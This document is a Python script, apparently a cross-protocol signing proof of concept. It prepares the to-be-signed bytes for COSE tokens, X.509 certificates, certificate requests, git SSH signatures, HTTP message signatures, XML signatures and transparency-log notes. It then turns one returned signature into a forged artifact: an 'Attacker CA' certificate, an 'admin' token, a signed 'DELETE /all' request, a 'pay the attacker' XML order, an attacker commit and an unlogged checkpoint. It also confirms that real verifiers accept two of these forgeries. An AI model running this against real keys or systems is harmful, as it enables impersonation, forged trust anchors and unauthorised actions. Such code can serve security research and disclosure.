"""Bytes that other standards sign, and what a signature over them makes.

    other-standards.py make STANDARD       writes the file "input"
    other-standards.py assemble STANDARD   reads "input" and "signature" (DER), and writes what the standard's program reads

The folder holds the public key in "key.pem". For COSE and HTTP the program is a library of Python, and is asked here.
"""

import base64
import hashlib
import struct
import sys
import time
from datetime import datetime, timezone
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, utils
from cryptography.x509.oid import NameOID

PEM = Path("key.pem").read_bytes()
KEY = serialization.load_pem_public_key(PEM)
DER, OPENSSH = [KEY.public_bytes(*form) for form in (
    (serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo),
    (serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH))]
NAME = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Attacker CA")])


def parts(signature):
    return b"".join(part.to_bytes(32, "big") for part in utils.decode_dss_signature(signature))


def element(tag, content):
    length = len(content).to_bytes((len(content).bit_length() + 7) // 8 or 1, "big")
    return bytes([tag]) + (length if len(content) < 0x80 else bytes([0x80 + len(length)]) + length) + content


def signed(tbs, signature, label):
    """The structure that X.509 and PKCS#10 share, as PEM."""
    algorithm = bytes.fromhex("300a06082a8648ce3d040302")  # ecdsa-with-SHA256
    der = element(0x30, tbs + algorithm + element(0x03, b"\0" + signature))
    return f"-----BEGIN {label}-----\n{base64.encodebytes(der).decode()}-----END {label}-----\n".encode()


class COSE:
    PROTECTED = bytes.fromhex("a10126")  # { 1: -7 }, ES256
    CLAIMS = {1: "https://example.com", 2: "admin", 3: "https://example.com", 4: 2_000_000_000}

    def make(self):
        import cbor2
        return cbor2.dumps(["Signature1", self.PROTECTED, b"", cbor2.dumps(self.CLAIMS)])

    def assemble(self, signature):
        import cbor2
        import cwt
        message = [self.PROTECTED, {4: b"1"}, cbor2.dumps(self.CLAIMS), parts(signature)]
        token = cbor2.dumps(cbor2.CBORTag(18, message))
        print("accepted", cwt.decode(token, keys=cwt.COSEKey.from_pem(PEM, kid=b"1")))


class Certificate:
    def make(self):
        builder = x509.CertificateBuilder(
            NAME, NAME, KEY, 1, datetime(2020, 1, 1, tzinfo=timezone.utc), datetime(2090, 1, 1, tzinfo=timezone.utc))
        builder = builder.add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        return builder.sign(ec.generate_private_key(ec.SECP256R1()), hashes.SHA256()).tbs_certificate_bytes

    def assemble(self, signature):
        Path("certificate.pem").write_bytes(signed(Path("input").read_bytes(), signature, "CERTIFICATE"))


class Request:
    def make(self):
        other = ec.generate_private_key(ec.SECP256R1())
        info = x509.CertificateSigningRequestBuilder(NAME).sign(other, hashes.SHA256()).tbs_certrequest_bytes
        return info.replace(other.public_key().public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo), DER)

    def assemble(self, signature):
        Path("request.pem").write_bytes(signed(Path("input").read_bytes(), signature, "CERTIFICATE REQUEST"))


class SSH:
    COMMIT = b"tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\n\nby an attacker\n"

    @staticmethod
    def string(content):
        return struct.pack(">I", len(content)) + content

    @classmethod
    def number(cls, value):
        return cls.string(value.to_bytes(value.bit_length() // 8 + 1, "big"))

    def make(self):
        fields = [b"git", b"", b"sha256", hashlib.sha256(self.COMMIT).digest()]
        return b"SSHSIG" + b"".join(map(self.string, fields))

    def assemble(self, signature):
        kind = b"ecdsa-sha2-nistp256"
        r_and_s = b"".join(map(self.number, utils.decode_dss_signature(signature)))
        blob = b"SSHSIG" + struct.pack(">I", 1) + b"".join(map(self.string, [
            base64.b64decode(OPENSSH.split()[1]), b"git", b"", b"sha256",
            self.string(kind) + self.string(r_and_s)]))
        Path("commit").write_bytes(self.COMMIT)
        Path("commit.sig").write_bytes(
            b"-----BEGIN SSH SIGNATURE-----\n" + base64.encodebytes(blob) + b"-----END SSH SIGNATURE-----\n")
        Path("allowed").write_bytes(b"team@example.com " + OPENSSH + b"\n")


class HTTP:
    def make(self):
        parameters = f'("@method" "@authority" "@path");created={int(time.time())};keyid="1"'
        return f'"@method": DELETE\n"@authority": example.com\n"@path": /all\n"@signature-params": {parameters}'.encode()

    def assemble(self, signature):
        from http_message_signatures import HTTPMessageVerifier, HTTPSignatureKeyResolver, algorithms

        class Keys(HTTPSignatureKeyResolver):
            def resolve_public_key(self, key_id):
                return PEM

        class Message:
            method, url = "DELETE", "https://example.com/all"
            headers = {
                "Signature-Input": "s=" + Path("input").read_text().rpartition('"@signature-params": ')[2],
                "Signature": f"s=:{base64.b64encode(parts(signature)).decode()}:"}

        verifier = HTTPMessageVerifier(signature_algorithm=algorithms.ECDSA_P256_SHA256, key_resolver=Keys())
        print("accepted", verifier.verify(Message()))


class XML:
    NAMESPACE = "http://www.w3.org/2000/09/xmldsig#"
    OBJECT = f'<Object xmlns="{NAMESPACE}" Id="order">pay the attacker</Object>'
    ALGORITHM = "http://www.w3.org/2001/"

    def make(self):
        digest = base64.b64encode(hashlib.sha256(self.OBJECT.encode()).digest()).decode()
        def empty(name, algorithm): return f'<{name} Algorithm="{self.ALGORITHM}{algorithm}"></{name}>'
        return (f'<SignedInfo xmlns="{self.NAMESPACE}">'
                + empty("CanonicalizationMethod", "10/xml-exc-c14n#") + empty("SignatureMethod", "04/xmldsig-more#ecdsa-sha256")
                + '<Reference URI="#order"><Transforms>' + empty("Transform", "10/xml-exc-c14n#") + '</Transforms>'
                + empty("DigestMethod", "04/xmlenc#sha256")
                + f'<DigestValue>{digest}</DigestValue></Reference></SignedInfo>').encode()

    def assemble(self, signature):
        value = base64.b64encode(parts(signature)).decode()
        Path("signature.xml").write_text(
            f'<Signature xmlns="{self.NAMESPACE}">{Path("input").read_text()}'
            f'<SignatureValue>{value}</SignatureValue>{self.OBJECT}</Signature>')
        Path("key.der").write_bytes(DER)


class Note:
    def make(self):
        root = base64.b64encode(hashlib.sha256(b"a tree that was never logged").digest()).decode()
        return f"log.example.com\n1000000\n{root}\n".encode()

    def assemble(self, signature):
        hint = hashlib.sha256(DER).digest()[:4]
        line = f"\u2014 log.example.com {base64.b64encode(hint + signature).decode()}\n"
        Path("note").write_text(f"{Path('input').read_text()}\n{line}")


def main():
    standards = {"cose": COSE, "certificate": Certificate, "request": Request, "ssh": SSH, "http": HTTP, "xml": XML,
                 "note": Note}
    step, standard = sys.argv[1], standards[sys.argv[2]]()
    if step == "make":
        Path("input").write_bytes(standard.make())
    else:
        standard.assemble(Path("signature").read_bytes())


main()
